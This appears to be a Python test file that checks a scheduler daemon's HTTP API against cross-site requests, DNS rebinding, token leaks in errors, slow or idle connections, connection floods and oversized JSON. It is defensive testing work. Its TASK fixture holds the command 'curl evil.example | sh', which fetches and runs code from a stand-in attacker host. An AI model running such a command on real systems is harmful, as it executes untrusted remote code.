"""The API's edge against the real daemon process: what a hostile page, a careless client or a
flood of connections can do through raw HTTP.

- a cross-site request (any non-JSON content type, a foreign Origin) or a foreign Host queues
  nothing and pauses nothing;
- aiohttp's own bad-request answers (over-long header or request line, bad URL bytes, body
  bytes left over after a 413) echo no request bytes, and the token appears in no answer and
  no log line on any error path; each bad request is one warning line without a traceback;
- idle and slow connections are closed within their timeouts; over ``api.max_connections`` the
  longest-idle connection makes room, ``/status/`` still answers, and with every connection
  busy a new one gets 503; the cap is lowered to fit the open-file limit.
"""

from __future__ import annotations

import asyncio
import io
import json
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import aiohttp
from daemon_process import DaemonProcess, write_config
from ports import free_port
from securitykit import AUTH, TOKEN, token_file

from scale_scheduler.api.edge_server import ACCEPT_BURST, FD_RESERVE

TASK = b'{"name":"x","command":"curl evil.example | sh","cpus":0.1,"mem":8}'

StartDaemon = Callable[..., Any]


@asynccontextmanager
async def daemon_process(
    tmp_path: Path, *, open_file_limit: int | None = None, **api: Any
) -> AsyncIterator[DaemonProcess]:
    """The daemon (no Mesos master: it serves its API while it retries) with ``api`` settings."""
    port = free_port()
    config = write_config(
        tmp_path / "config.yaml",
        api={"host": "127.0.0.1", "port": port, **api},
        state={"path": str(tmp_path / "state.db")},
        mesos={"master": f"http://127.0.0.1:{free_port()}", "backoff_max": 1.0},
    )
    process = DaemonProcess(config, port, tmp_path / "daemon.log")
    process.start(open_file_limit=open_file_limit)
    try:
        await process.wait_ready()
        yield process
    finally:
        process.stop_quietly()


def port_of(daemon: DaemonProcess) -> int:
    return int(daemon.url.rsplit(":", 1)[1])


def log_events(daemon: DaemonProcess) -> list[dict[str, Any]]:
    text = daemon.log_path.read_text(errors="replace")
    return [json.loads(line) for line in text.splitlines() if line.startswith("{")]


async def exchange(port: int, data: bytes, timeout: float = 10.0) -> bytes:
    """Send ``data`` on a new connection; everything the daemon answers until it closes."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(data)
        await writer.drain()
        return await asyncio.wait_for(reader.read(), timeout)
    finally:
        writer.close()


def request(port: int, head: str, body: bytes = b"", **headers: str) -> bytes:
    lines = [
        head,
        f"Host: 127.0.0.1:{port}",
        *(f"{k.replace('_', '-')}: {v}" for k, v in headers.items()),
    ]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


async def status_of(url: str, headers: dict[str, str] | None = None) -> int:
    async with aiohttp.ClientSession() as session, session.get(url, headers=headers) as response:
        return response.status


async def queued_and_paused(daemon: DaemonProcess) -> tuple[int, bool]:
    async with aiohttp.ClientSession() as session:
        async with session.get(daemon.url + "/queue/") as response:
            count = (await response.json())["count"]
        async with session.get(daemon.url + "/scheduler/") as response:
            is_paused = (await response.json())["is_paused"]
    return count, is_paused


# --- item 1: cross-site requests and DNS rebinding ---------------------------------------------


async def test_cross_site_and_rebinding_requests_change_nothing(tmp_path: Path) -> None:
    async with daemon_process(tmp_path) as daemon:
        port = port_of(daemon)
        evil = "http://evil.example"
        attempts = [
            # simple requests a page can send without a preflight: every non-JSON type
            request(port, "POST /queue/ HTTP/1.1", TASK, Origin=evil, Content_Type="text/plain"),
            request(port, "POST /queue/ HTTP/1.1", TASK, Content_Type="text/plain"),
            request(
                port,
                "POST /queue/ HTTP/1.1",
                b"name=x&command=true&cpus=0.1&mem=8",
                Content_Type="application/x-www-form-urlencoded",
            ),
            request(
                port,
                "POST /queue/ HTTP/1.1",
                b'--b\r\nContent-Disposition: form-data; name="x"\r\n\r\n'
                + TASK
                + b"\r\n--b--\r\n",
                Content_Type="multipart/form-data; boundary=b",
            ),
            request(port, "POST /queue/ HTTP/1.1", TASK),
            # JSON, but from another origin or site
            request(
                port, "POST /queue/ HTTP/1.1", TASK, Origin=evil, Content_Type="application/json"
            ),
            request(
                port,
                "PATCH /scheduler/ HTTP/1.1",
                b'{"is_paused": true}',
                Content_Type="application/json",
                Sec_Fetch_Site="cross-site",
            ),
        ]
        statuses = []
        for attempt in attempts:
            answer = await exchange(
                port, attempt.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n", 1)
            )
            statuses.append(int(answer.split(b" ", 2)[1]))
        assert statuses == [403, 415, 415, 415, 415, 403, 403]
        # DNS rebinding: the browser sends the attacker's name in Host.
        async with aiohttp.ClientSession() as session:
            rebound = {"Host": "evil.example"}
            async with session.get(daemon.url + "/dashboard/state/", headers=rebound) as response:
                assert response.status == 421
            async with session.patch(
                daemon.url + "/scheduler/", json={"is_paused": True}, headers=rebound
            ) as response:
                assert response.status == 421
            # The daemon's own answer names itself, whatever Host (of its names) was used.
            async with session.post(
                daemon.url + "/queue/",
                json={"name": "ok", "command": "true", "cpus": 0.1, "mem": 8},
                headers={"Host": f"localhost:{port}"},
            ) as response:
                assert response.status == 201
                assert response.headers["Location"].startswith(f"http://127.0.0.1:{port}/tasks/")
        assert await queued_and_paused(daemon) == (1, False)  # only the legitimate task


# --- items 6 and 16: aiohttp's own errors echo and log nothing of the request ---------------------


async def test_the_token_is_in_no_answer_and_no_log_line(tmp_path: Path) -> None:
    async with daemon_process(
        tmp_path, token_file=str(token_file(tmp_path)), max_body_bytes=1024
    ) as daemon:
        port = port_of(daemon)
        bearer = f"Bearer {TOKEN}"
        bad_requests = [
            # an Authorization header over 8,190 bytes
            request(port, "GET /status/ HTTP/1.1", Authorization=bearer + " " + "x" * 9000),
            # bad characters in the URL
            request(port, f"GET /status/?t={TOKEN}\x01\x7f HTTP/1.1"),
            # a request line over 8,190 bytes
            request(port, f"GET /{TOKEN}{'a' * 9000} HTTP/1.1"),
        ]
        answers = [await exchange(port, data) for data in bad_requests]
        answers.append(await leftover_after_413(port, f"{bearer}\x00 HTTP/1.1\r\n\r\n".encode()))
        for answer in answers:
            assert b"400 Bad Request" in answer, answer[:300]
            assert b"the request line or a header is malformed or too long" in answer
        # Errors of the application: two Authorization headers, a wrong token, no token.
        two = request(
            port,
            "PATCH /scheduler/ HTTP/1.1",
            b'{"is_paused": true}',
            Authorization=bearer,
            Content_Type="application/json",
            Connection="close",
        ).replace(b"Authorization:", b"Authorization: Bearer wrong\r\nAuthorization:", 1)
        answers.append(await exchange(port, two))
        assert b" 400 " in answers[-1]
        for headers in ({"Authorization": f"{bearer}x"}, {"Authorization": f"Basic {TOKEN}"}, {}):
            async with (
                aiohttp.ClientSession() as session,
                session.patch(
                    daemon.url + "/scheduler/", json={"is_paused": True}, headers=headers
                ) as response,
            ):
                assert response.status == 401
                answers.append(await response.read() + str(response.headers).encode())
        assert await status_of(daemon.url + "/status/", AUTH) == 200  # the token still works
        assert await asyncio.to_thread(daemon.terminate) == 0
        for answer in answers:
            assert TOKEN.encode() not in answer
        log = daemon.log_path.read_text(errors="replace")
        assert TOKEN not in log
        events = log_events(daemon)
        bad = [event for event in events if event["event"] == "api_bad_request"]
        assert len(bad) == 4, bad  # one line per bad request
        assert {event["level"] for event in bad} == {"warning"}
        assert all("exception" not in event for event in bad)
        assert not [event for event in events if event.get("logger") == "aiohttp.server"]
        assert "Traceback" not in log


async def leftover_after_413(port: int, leftover: bytes) -> bytes:
    """A body over ``api.max_body_bytes`` (413), then ``leftover`` read as the next request."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        big = request(
            port,
            "PATCH /scheduler/ HTTP/1.1",
            b"x" * 2048,
            Content_Type="application/json",
            Authorization=f"Bearer {TOKEN}",
        )
        writer.write(big)
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        assert head.startswith(b"HTTP/1.1 413"), head
        length = int(head.lower().split(b"content-length: ")[1].split(b"\r\n")[0])
        first = head + await reader.readexactly(length)
        writer.write(leftover)
        return first + await asyncio.wait_for(reader.read(), 10)
    finally:
        writer.close()


# --- item 7: idle and slow connections, the connection cap ---------------------------------------


async def closed_within(reader: asyncio.StreamReader, seconds: float) -> float:
    """Seconds until the daemon closes the connection (reading and dropping what it sends)."""
    started = time.monotonic()
    while await asyncio.wait_for(reader.read(65536), seconds):
        pass
    return time.monotonic() - started


async def test_idle_and_slow_connections_are_closed(tmp_path: Path) -> None:
    async with daemon_process(tmp_path, header_timeout=0.5, idle_timeout=1.0) as daemon:
        port = port_of(daemon)
        # Connected, silent.
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        assert 0.3 < await closed_within(reader, 5) < 3
        writer.close()

        # One byte at a time: the headers never complete in time.
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        started = time.monotonic()

        async def trickle() -> None:
            for byte in request(port, "GET /status/ HTTP/1.1"):
                writer.write(bytes([byte]))
                await asyncio.sleep(0.05)  # deliberately slow client: one byte each 50 ms

        sender = asyncio.create_task(trickle())
        await closed_within(reader, 5)
        sender.cancel()
        assert time.monotonic() - started < 3
        writer.close()

        # Kept alive after an answer, then idle.
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(request(port, "GET /status/ HTTP/1.1"))
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        assert head.startswith(b"HTTP/1.1 200")
        length = int(head.lower().split(b"content-length: ")[1].split(b"\r\n")[0])
        await reader.readexactly(length)
        assert 0.7 < await closed_within(reader, 5) < 3
        writer.close()


async def test_over_the_cap_the_idle_make_room_and_busy_ones_refuse(tmp_path: Path) -> None:
    cap = 8
    async with daemon_process(tmp_path, max_connections=cap, header_timeout=60) as daemon:
        port = port_of(daemon)
        idle = [await asyncio.open_connection("127.0.0.1", port) for _ in range(3 * cap)]
        # The longest idle were closed to make room; a client that asks at once is served.
        assert await status_of(daemon.url + "/status/") == 200
        closed = 0
        for reader, _writer in idle:
            try:
                if await asyncio.wait_for(reader.read(), 0.2) == b"":
                    closed += 1
            except TimeoutError:
                pass
        assert closed >= 2 * cap  # at most cap stay open (one was just used by /status/)
        for _reader, writer in idle:
            writer.close()

        # Every connection busy (event streams): a new one is answered 503 at once.
        streams = []
        for _ in range(cap):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(request(port, "GET /dashboard/events/ HTTP/1.1"))
            assert (await asyncio.wait_for(reader.readline(), 5)).startswith(b"HTTP/1.1 200")
            streams.append((reader, writer))
        answer = await exchange(port, request(port, "GET /status/ HTTP/1.1"), timeout=5)
        assert answer.startswith(b"HTTP/1.1 503")
        assert b"api.max_connections" in answer
        for _reader, writer in streams:
            writer.close()
        deadline = time.monotonic() + 5
        while True:
            answer = await exchange(
                port, request(port, "GET /status/ HTTP/1.1", Connection="close")
            )
            if answer.startswith(b"HTTP/1.1 200") or time.monotonic() > deadline:
                break
            await asyncio.sleep(0.05)  # poll interval
        assert answer.startswith(b"HTTP/1.1 200")
    refused = [e for e in log_events(daemon) if e["event"] == "api_connection_refused"]
    assert len(refused) == 1  # one line for the burst


async def test_the_cap_is_lowered_to_fit_the_open_file_limit(tmp_path: Path) -> None:
    async with daemon_process(tmp_path, open_file_limit=200, max_connections=512) as daemon:
        port = port_of(daemon)
        connections = [await asyncio.open_connection("127.0.0.1", port) for _ in range(250)]
        assert await status_of(daemon.url + "/status/") == 200
        for _reader, writer in connections:
            writer.close()
    events = log_events(daemon)
    lowered = [e for e in events if e["event"] == "api_max_connections_lowered"]
    assert len(lowered) == 1
    assert lowered[0]["configured"] == 512
    assert lowered[0]["used"] == 200 - FD_RESERVE - ACCEPT_BURST - 16
    assert not [e for e in events if e["event"] == "api_accept_failed"]  # no EMFILE reached


# --- review of issue 14, N1: huge arrays ----------------------------------------------------------


def peak_rss(daemon: DaemonProcess) -> int:
    """The daemon's peak resident memory so far, in bytes (Linux's ``VmHWM``)."""
    assert daemon.proc is not None
    status = Path(f"/proc/{daemon.proc.pid}/status").read_text()
    kilobytes = next(line.split()[1] for line in status.splitlines() if line.startswith("VmHWM:"))
    return int(kilobytes) * 1024


async def test_huge_arrays_are_refused_and_the_daemon_stays_small(tmp_path: Path) -> None:
    zeros = b"0," * 8_388_000 + b"0"  # 16 MB: 8 million elements
    hostile = [
        ("POST", "/queue/", b"[" + zeros + b"]", "A batch holds at most 10000 tasks"),
        ("PATCH", "/scheduler/", b'{"is_paused":[' + zeros + b"]}", "not an array"),
        ("POST", "/queue/", b'{"name":[' + zeros + b"]}", "Field 'name' is invalid"),
    ]
    async with daemon_process(tmp_path) as daemon, aiohttp.ClientSession() as session:
        peak_before = peak_rss(daemon)
        for method, path, body, message in hostile:
            async with session.request(
                method,
                daemon.url + path,
                data=io.BytesIO(body),
                headers={"Content-Type": "application/json"},
            ) as response:
                assert response.status == 400
                assert message in await response.text()
        # One array's elements as Python objects are about 0.5 GB (before the fix); a body
        # itself is 16 MB, held a few times over by aiohttp and msgspec.
        assert peak_rss(daemon) - peak_before < 150 * 2**20


# --- review of issue 14, N2: connections that stay busy -------------------------------------------


async def test_slow_bodies_are_answered_408_and_closed(tmp_path: Path) -> None:
    cap = 8
    async with daemon_process(tmp_path, max_connections=cap, body_timeout=0.5) as daemon:
        port = port_of(daemon)
        head = request(port, "POST /queue/ HTTP/1.1", Content_Type="application/json")
        slow = head[:-2] + b"Content-Length: 100000\r\n\r\n{"  # then nothing more
        connections = []
        for _ in range(cap):  # every connection busy with a body that never arrives
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(slow)
            connections.append((reader, writer))
        for reader, writer in connections:
            answer = await asyncio.wait_for(reader.read(), 5)  # until the daemon closes
            assert answer.startswith(b"HTTP/1.1 408")
            assert b"api.body_timeout" in answer
            assert b"text/plain" in answer
            writer.close()
        assert await status_of(daemon.url + "/status/") == 200
        assert (await queued_and_paused(daemon))[0] == 0


async def test_event_streams_are_capped_below_the_connection_cap(tmp_path: Path) -> None:
    cap, streams_cap = 12, 4
    async with daemon_process(
        tmp_path,
        token_file=str(token_file(tmp_path)),
        max_connections=cap,
        max_event_streams=streams_cap,
    ) as daemon:
        port = port_of(daemon)
        held, refused = [], 0
        for _ in range(cap):  # no token: streams are reads, open while read_auth is false
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(request(port, "GET /dashboard/events/ HTTP/1.1"))
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
            if head.startswith(b"HTTP/1.1 200"):
                held.append(writer)
            else:
                assert head.startswith(b"HTTP/1.1 503")
                assert b"Retry-After: 5" in head
                refused += 1
                writer.close()
        assert (len(held), refused) == (streams_cap, cap - streams_cap)
        assert await status_of(daemon.url + "/healthz") == 200
        async with (
            aiohttp.ClientSession() as session,
            session.patch(
                daemon.url + "/scheduler/", json={"is_paused": True}, headers=AUTH
            ) as response,
        ):
            assert response.status == 201
        for writer in held:
            writer.close()


def small_window_socket(port: int) -> Any:
    """A connected socket whose receive buffer is tiny: the daemon's answer stalls in its own
    send buffer until we read."""
    import socket

    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect(("127.0.0.1", port))
    sock.setblocking(False)
    return sock


async def test_a_connection_writing_its_answer_is_not_evicted(tmp_path: Path) -> None:
    cap, count = 4, 400
    task = {"name": "t", "command": "x" * 24_000, "cpus": 0.1, "mem": 8}
    async with daemon_process(tmp_path, max_connections=cap) as daemon:
        port = port_of(daemon)
        async with (
            aiohttp.ClientSession() as session,
            session.post(
                daemon.url + "/queue/",
                data=io.BytesIO(json.dumps([task] * count).encode()),
                headers={"Content-Type": "application/json"},
            ) as response,
        ):
            assert response.status == 201
        reader, writer = await asyncio.open_connection(sock=small_window_socket(port))
        writer.write(request(port, f"GET /queue/?page_size={count} HTTP/1.1"))
        # The head is out: the view has returned and aiohttp is writing the ~10 MB body, which
        # waits for us (the daemon's send buffer holds a few MB at most). Taken for idle, the
        # connection would be evicted for the newcomers (and its descriptor held until the
        # answer is out, past the cap).
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
        assert head.startswith(b"HTTP/1.1 200")
        length = int(head.lower().split(b"content-length: ")[1].split(b"\r\n")[0])
        newcomers = [await asyncio.open_connection("127.0.0.1", port) for _ in range(2 * cap)]
        # Answered after the daemon accepted (and made room for) every newcomer before it.
        assert await status_of(daemon.url + "/status/") == 200
        body = await asyncio.wait_for(reader.readexactly(length), 30)
        assert json.loads(body)["count"] == count
        # Still open: an evicted connection would have been closed once its answer was out.
        writer.write(request(port, "GET /status/ HTTP/1.1"))
        assert (await asyncio.wait_for(reader.readline(), 5)).startswith(b"HTTP/1.1 200")
        writer.close()
        for _reader, newcomer in newcomers:
            newcomer.close()
